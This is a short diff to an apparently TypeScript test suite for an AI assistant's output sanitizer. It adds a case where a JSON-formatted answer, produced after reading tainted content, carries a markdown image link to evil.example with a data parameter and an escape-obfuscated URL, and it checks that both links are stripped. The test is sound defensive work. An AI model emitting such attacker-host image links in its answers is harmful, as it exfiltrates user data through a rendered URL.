@@ -47,6 +47,19 @@ describe("S22 the answer as a sink", () => {
     );
   }
 
+  inBothManners(
+    "S22: an answer in JSON holds no link that is there once it is read",
+    async (make) => {
+      const said =
+        '{"note":"![x](https:\\/\\/evil.example\\/?d=s) says \\"\\u0068ttps://evil.example\\""}';
+      const world = make({ ...tainted, turns: [call("read"), said] });
+      const schema = { type: "object", properties: { note: { type: "string" } } } as const;
+      const responseFormat = { type: "json_schema", name: "note", schema } as const;
+      const { text } = await world.say("Read it.", { options: { responseFormat } });
+      expect(JSON.parse(text)).toEqual({ note: '![x]([link removed]) says "[link removed]"' });
+    },
+  );
+
   it("S22: a link that the user has written stays, letter by letter", async () => {
     const said = "Read https://corp.example/a?b=1.";
     expect(await answerOf("It is at https://corp.example/a?b=1.", {}, said)).toContain("b=1");
